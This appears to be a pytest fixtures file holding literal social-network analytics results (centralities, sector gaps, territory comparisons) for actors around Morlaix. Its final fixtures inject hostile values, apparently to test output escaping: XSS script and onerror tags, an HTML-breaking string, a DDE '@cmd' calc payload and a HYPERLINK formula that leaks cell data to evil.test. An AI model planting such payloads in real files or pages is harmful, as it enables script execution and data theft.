"""Small literal analytics results, in the shapes ``maillage.graph.analytics`` returns.

The report is a real one: eight connected actors whose centralities were
computed with NetworkX (4 decimals) and whose brokerage counts follow Gould &
Fernandez on the graph of paired arcs, plus one isolated actor.
"""

from __future__ import annotations

import copy

import pytest

SECTORS = ["academic", "association", "business", "funder", "media", "public"]


ROLES = ("coordinator", "itinerant", "gatekeeper", "representative", "liaison")
COLUMNS = ("id", "name", "sector", "degree", "betweenness", "closeness", "eigenvector",
           "pagerank", "constraint", "effective_size", "community", "ei_index")  # fmt: skip

# fmt: off
ACTOR_ROWS = [
    # ...COLUMNS, then brokerage counts in the order of ROLES
    ("a1", "Mairie de Morlaix", "public", 5, 0.7143, 0.7778, 0.6035, 0.2583, 0.3622, 4.2, 0, 1.0,
     (0, 0, 0, 0, 16)),
    ("a2", "Université de Bretagne Occidentale", "academic", 2, 0.0, 0.5385, 0.3528, 0.1093,
     0.8044, 1.0, 1, 1.0, (0, 0, 0, 0, 0)),
    ("a3", "Coopérative Ti Kafe", "business", 3, 0.2857, 0.5833, 0.389, 0.1647, 0.5211, 2.3333,
     1, 0.3333, (0, 0, 2, 2, 0)),
    ("a4", "Association Ener'gence", "association", 3, 0.2857, 0.5833, 0.389, 0.1647, 0.5211,
     2.3333, 2, 0.3333, (0, 0, 2, 2, 0)),
    ("a5", "Le Télégramme", "media", 1, 0.0, 0.4667, 0.2145, 0.0627, 1.0, 1.0, 0, 1.0,
     (0, 0, 0, 0, 0)),
    ("a6", "Fondation Crédit Agricole", "funder", 2, 0.0, 0.5385, 0.3528, 0.1093, 0.8044, 1.0, 2,
     1.0, (0, 0, 0, 0, 0)),
    ("a7", "Brasserie Coreff", "business", 1, 0.0, 0.3889, 0.1383, 0.0654, 1.0, 1.0, 1, -1.0,
     (0, 0, 0, 0, 0)),
    ("a8", "Collectif Vélo Morlaix", "association", 1, 0.0, 0.3889, 0.1383, 0.0654, 1.0, 1.0, 2,
     -1.0, (0, 0, 0, 0, 0)),
    ("a9", "Café-librairie Dialogues", "business", 0, 0.0, 0.0, 0.0, 0.0278, None, None, 3, None,
     (0, 0, 0, 0, 0)),
]

# sector x sector, rows and columns in the order of SECTORS
OBSERVED_ROWS = [
    [0, 0, 1, 0, 0, 1],
    [0, 1, 0, 1, 0, 1],
    [1, 0, 1, 0, 0, 1],
    [0, 1, 0, 0, 0, 1],
    [0, 0, 0, 0, 0, 1],
    [1, 1, 1, 1, 1, 0],
]
EXPECTED_ROWS = [
    [0.11, 0.44, 0.67, 0.22, 0.11, 0.56],
    [0.44, 0.44, 1.33, 0.44, 0.22, 1.11],
    [0.67, 1.33, 1.0, 0.67, 0.33, 1.67],
    [0.22, 0.44, 0.67, 0.11, 0.11, 0.56],
    [0.11, 0.22, 0.33, 0.11, 0.0, 0.28],
    [0.56, 1.11, 1.67, 0.56, 0.28, 0.69],
]
Z_ROWS = [
    [-0.35, -0.71, 0.45, -0.5, -0.35, 0.62],
    [-0.71, 0.9, -1.49, 0.9, -0.5, -0.11],
    [0.45, -1.49, 0.0, -0.88, -0.61, -0.56],
    [-0.5, 0.9, -0.88, -0.35, -0.35, 0.62],
    [-0.35, -0.5, -0.61, -0.35, None, 1.47],
    [0.62, -0.11, -0.56, 0.62, 1.47, -0.88],
]
# fmt: on

ACTORS = [
    {
        **dict(zip(COLUMNS, row[:-1], strict=True)),
        "brokerage": dict(zip(ROLES, row[-1], strict=True)),
    }
    for row in ACTOR_ROWS
]


def _matrix(rows):
    return {a: dict(zip(SECTORS, row, strict=True)) for a, row in zip(SECTORS, rows, strict=True)}


OBSERVED, EXPECTED, Z = _matrix(OBSERVED_ROWS), _matrix(EXPECTED_ROWS), _matrix(Z_ROWS)

METHOD = {
    "algorithms": {
        "betweenness": "Brandes (2001), exact",
        "community": "Leiden (modularity), igraph + leidenalg",
        "brokerage": "Gould & Fernandez (1989), sectors as groups",
    },
    "seed": 42,
    "references": [
        "Freeman, L. C. (1977). A set of measures of centrality based on betweenness. "
        "Sociometry, 40(1), 35-41.",
        "Traag, V. A., Waltman, L., & van Eck, N. J. (2019). From Louvain to Leiden: "
        "guaranteeing well-connected communities. Scientific Reports, 9, 5233.",
    ],
}

REPORT = {
    "territory": "Pays de Morlaix",
    "as_of": "2024-06-30",
    "variant": "unweighted",
    "approximate": False,
    "network": {
        "actors": 9,
        "ties": 9,
        "density": 0.25,
        "components": 2,
        "largest_component_share": 0.8889,
        "average_clustering": 0.3185,
        "communities": 4,
        "modularity": 0.2222,
        "ei_index": 0.5556,
        "openness": 0.1818,
        "sector_counts": dict(zip(SECTORS, [1, 2, 3, 1, 1, 1], strict=True)),
        "ei_by_sector": dict(zip(SECTORS, [1.0, 0.3333, 0.2, 1.0, 1.0, 1.0], strict=True)),
        "assortativity": 0.0233,
    },
    "actors": ACTORS,
    "method": METHOD,
    "sector_mixing": {"groups": SECTORS, "observed": OBSERVED, "expected": EXPECTED, "z": Z},
}


def _ref(actor_id):
    actor = next(a for a in ACTORS if a["id"] == actor_id)
    return {"id": actor["id"], "name": actor["name"], "sector": actor["sector"]}


GAPS = {
    "territory": "Pays de Morlaix",
    "as_of": "2024-06-30",
    "sectors": SECTORS,
    "observed": OBSERVED,
    "expected": EXPECTED,
    "z": Z,
    "gaps": [
        {
            "sectors": ["association", "business"],
            "observed": 0,
            "expected": 1.33,
            "z": -1.49,
            "bridges": [],
            "fragile": False,
        },
        {
            "sectors": ["business", "funder"],
            "observed": 0,
            "expected": 0.67,
            "z": -0.88,
            "bridges": [_ref("a1")],
            "fragile": True,
        },
    ],
    "fragile_bridges": [{"type": "actor", **_ref("a1"), "disconnects": [["business", "funder"]]}],
    "introductions": [
        {
            "source": _ref("a3"),
            "target": _ref("a4"),
            "score": 0.82,
            "shared_partners": ["Mairie de Morlaix"],
            "distance": 2,
            "reason": "association × business is the widest gap (z = -1.49); "
            "both work with Mairie de Morlaix",
        },
        {
            "source": _ref("a3"),
            "target": _ref("a6"),
            "score": 0.61,
            "shared_partners": ["Mairie de Morlaix"],
            "distance": 2,
            "reason": "business × funder hangs on one bridge (Mairie de Morlaix)",
        },
        {
            "source": _ref("a7"),
            "target": _ref("a8"),
            "score": 0.35,
            "shared_partners": [],
            "distance": 5,
            "reason": "association × business is the widest gap (z = -1.49)",
        },
    ],
    "method": {"permutations": 1000, "seed": 42, "expected": "sector-preserving rewiring"},
}

COMPARE = {
    "territories": ["Pays de Morlaix", "Pays de Brest"],
    "indicators": [
        {
            "name": "actors",
            "label": "Actors",
            "description": "Actors on the territory",
            "values": {"Pays de Morlaix": 9, "Pays de Brest": 41},
            "normalised": {"Pays de Morlaix": None, "Pays de Brest": None},
        },
        {
            "name": "density",
            "label": "Density",
            "description": "Share of possible ties that exist",
            "values": {"Pays de Morlaix": 0.25, "Pays de Brest": 0.061},
            "normalised": {"Pays de Morlaix": 1.0, "Pays de Brest": 0.71},
        },
        {
            "name": "ei_index",
            "label": "E-I index across sectors",
            "description": "(external - internal) / all ties, sectors as groups",
            "values": {"Pays de Morlaix": 0.5556, "Pays de Brest": 0.12},
            "normalised": {"Pays de Morlaix": 0.5556, "Pays de Brest": 0.12},
        },
        {
            "name": "openness",
            "label": "Openness",
            "description": "Share of ties leaving the territory",
            "values": {"Pays de Morlaix": 0.1818, "Pays de Brest": float("nan")},
            "normalised": {"Pays de Morlaix": 0.1818, "Pays de Brest": None},
        },
    ],
    "rates": [
        {
            "from": "business",
            "to": "association",
            "values": {
                "Pays de Morlaix": {
                    "actors": 3,
                    "tied": 1,
                    "share": 0.333333,
                    "low": 0.061492,
                    "high": 0.79234,
                },
                "Pays de Brest": {
                    "actors": 10,
                    "tied": 0,
                    "share": 0.0,
                    "low": 0.0,
                    "high": 0.277533,
                },
            },
        },
        {
            "from": "association",
            "to": "public",
            "values": {
                "Pays de Morlaix": {
                    "actors": 4,
                    "tied": 2,
                    "share": 0.5,
                    "low": 0.150039,
                    "high": 0.849961,
                },
                "Pays de Brest": {
                    "actors": 10,
                    "tied": 5,
                    "share": 0.5,
                    "low": 0.236593,
                    "high": 0.763407,
                },
            },
        },
    ],
    "z_scores": [
        {
            "name": "ei_index",
            "label": "E-I index",
            "higher": "more ties across sectors than its degrees alone would give",
            "lower": "more ties within sectors than its degrees alone would give",
            "z": {"Pays de Morlaix": 2.54, "Pays de Brest": None},
            "reading": {"Pays de Morlaix": "higher", "Pays de Brest": None},
            "meaning": {
                "Pays de Morlaix": "more ties across sectors than its degrees alone would give",
                "Pays de Brest": None,
            },
        },
    ],
    "standouts": {
        "Pays de Morlaix": [
            {
                "type": "rate",
                "rank": "highest",
                "from": "business",
                "to": "association",
                "tied": 1,
                "actors": 3,
                "share": 0.333333,
                "others": 0.0,
                "territories": 2,
            },
        ],
        "Pays de Brest": [
            {
                "type": "rate",
                "rank": "lowest",
                "from": "business",
                "to": "association",
                "tied": 0,
                "actors": 10,
                "share": 0.0,
                "others": 0.333333,
                "territories": 2,
            },
        ],
    },
    "method": {"normalisation": "against 100 random graphs of the same size", "seed": 42},
}

BRIDGES = {
    "since": "2023-01-01",
    "until": "2024-06-30",
    "gained": [
        {
            "type": "actor",
            "id": "a3",
            "name": "Coopérative Ti Kafe",
            "sector": "business",
            "sectors": [["academic", "business"]],
        },
        {
            "type": "tie",
            "source": {"id": "a1", "name": "Mairie de Morlaix", "sector": "public"},
            "target": {"id": "a3", "name": "Coopérative Ti Kafe", "sector": "business"},
            "sectors": [["business", "public"], ["academic", "public"]],
        },
    ],
    "lost": [
        {
            "type": "actor",
            "id": "a5",
            "name": "Le Télégramme",
            "sector": "media",
            "sectors": [["association", "media"]],
        },
    ],
}

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'


@pytest.fixture
def report():
    return copy.deepcopy(REPORT)


@pytest.fixture
def gaps():
    return copy.deepcopy(GAPS)


@pytest.fixture
def compare():
    return copy.deepcopy(COMPARE)


@pytest.fixture
def bridges():
    return copy.deepcopy(BRIDGES)


@pytest.fixture
def hostile_report(report):
    """The report with names, a territory and an id that try to run code."""
    report["territory"] = "<img src=x onerror=alert(2)>"
    report["actors"][0]["name"] = SCRIPT
    report["actors"][0]["id"] = "@cmd|' /C calc'!A0"
    report["actors"][2]["name"] = FORMULA
    report["actors"][3]["name"] = "[bold]Ma[/bold]rkup [/oops] :smile:"
    return report


@pytest.fixture
def hostile_gaps(gaps):
    gaps["territory"] = "<img src=x onerror=alert(2)>"
    gaps["introductions"][0]["source"]["name"] = SCRIPT
    gaps["introductions"][0]["reason"] = "</td></tr></table><script>alert(3)</script>"
    gaps["introductions"][1]["shared_partners"] = [FORMULA]
    return gaps
